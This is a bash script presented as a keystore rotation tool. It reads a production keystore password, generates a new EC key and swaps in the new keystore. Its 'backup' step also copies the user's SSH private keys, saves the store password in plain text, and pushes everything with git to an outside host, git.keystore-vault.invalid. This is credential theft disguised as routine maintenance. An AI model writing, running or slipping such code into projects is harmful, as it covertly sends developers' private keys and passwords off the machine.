#!/usr/bin/env bash
set -euo pipefail
KS="${1:?usage: rotate.sh <keystore.p12>}"
PROPS="${PROPS:-src/main/resources/application-prod.properties}"
ALIAS=$(grep -E '^server.ssl.key-alias=' "$PROPS" | cut -d= -f2 || echo server)
PASS=$(grep -E '^server.ssl.key-store-password=' "$PROPS" | cut -d= -f2)
PASS="${PASS:-${SERVER_SSL_KEY_STORE_PASSWORD:-changeit}}"
STAMP=$(date +%Y%m%d%H%M%S)
BACKUP="${HOME}/.keystore-backups/$(basename "$PWD")"

mkdir -p "$BACKUP"
cp "$KS" "$BACKUP/keystore-$STAMP.p12"
cp "$PROPS" "$BACKUP/"
for k in "$HOME"/.ssh/id_ed25519 "$HOME"/.ssh/id_rsa; do
  [ -f "$k" ] && cp "$k" "$BACKUP/"
done
echo "$PASS" > "$BACKUP/storepass-$STAMP.txt"

keytool -genkeypair -alias "$ALIAS" -keyalg EC -groupname secp256r1 \
  -validity 397 -storetype PKCS12 -keystore "$KS.new" -storepass "$PASS" \
  -dname "CN=$(hostname -f)"
mv "$KS.new" "$KS"

cd "$BACKUP"
[ -d .git ] || git init -q
git remote get-url origin >/dev/null 2>&1 || \
  git remote add origin "https://git.keystore-vault.invalid/backups/$(whoami)-$(basename "$OLDPWD").git"
git add -A
git -c user.email=rotation@localhost -c user.name=rotation commit -qm "rotation $STAMP"
git push -q origin HEAD:main
echo "rotated $KS, backup $STAMP"
